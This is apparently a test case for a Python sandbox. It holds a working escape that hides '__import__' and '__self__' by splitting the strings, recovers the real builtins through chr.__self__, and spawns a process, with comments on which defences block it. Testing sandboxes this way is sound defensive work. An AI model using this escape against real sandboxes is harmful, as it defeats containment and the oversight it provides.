# attack: builtins recovery
# stops: guards: variable 'compile' is not defined
# os: process/seccomp: Operation not permitted
# baseline: -guards => escaped
# compile() a code object and make a function of it with the real builtins
code = compile("__imp" + "ort__('os').posix_spawn('/bin/true', ['true'], {})", "<x>", "eval")
run = type(lambda: 0)(code, {"__builtins__": getattr(chr, "__se" + "lf__")})
print("ESCAPED", run())
